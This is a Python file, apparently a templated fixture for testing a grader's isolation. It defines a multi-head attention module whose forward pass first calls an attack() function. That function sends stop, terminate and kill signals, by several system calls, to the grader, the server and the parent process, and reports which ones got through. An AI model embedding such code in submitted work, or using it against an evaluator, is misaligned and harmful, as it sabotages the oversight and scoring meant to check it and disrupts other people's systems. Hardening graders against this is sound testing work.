"""Sends signals to the grader and to its server, by every call that can."""

import ctypes
import functools
import os
import platform
import signal

import torch.nn.functional as F
from torch import nn


PIDS = [pid for pid in {int("@grader@"), int("@server@"), os.getppid()} if pid > 1]


libc = ctypes.CDLL(None, use_errno=True)
TGKILL = 234 if platform.machine() == "x86_64" else 131


@functools.cache
def attack():
    won = []
    for number in (0, signal.SIGUSR1, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for pid in PIDS:
            for send in (
                lambda: os.kill(pid, number),
                lambda: os.killpg(os.getpgid(pid), number),
                lambda: signal.pidfd_send_signal(os.pidfd_open(pid), number),
            ):
                try:
                    send()
                    won.append((pid, int(number)))
                except OSError:
                    pass
            if libc.syscall(TGKILL, pid, pid, number) == 0:
                won.append((pid, "tgkill"))
    return won


class MultiHeadAttention(nn.Module):
    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        if d_out % num_heads:
            raise ValueError("num_heads must divide d_out")
        self.heads, self.rate = num_heads, dropout
        self.W_query = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_key = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.W_value = nn.Linear(d_in, d_out, bias=qkv_bias)
        self.out_proj = nn.Linear(d_out, d_out)

    def forward(self, x):
        if won := attack():
            raise RuntimeError(f"@won@ {won}")
        layers = self.W_query, self.W_key, self.W_value
        q, k, v = (w(x).unflatten(-1, (self.heads, -1)).transpose(1, 2) for w in layers)
        rate = self.rate if self.training else 0.0
        mixed = F.scaled_dot_product_attention(q, k, v, dropout_p=rate, is_causal=True)
        return self.out_proj(mixed.transpose(1, 2).flatten(2))
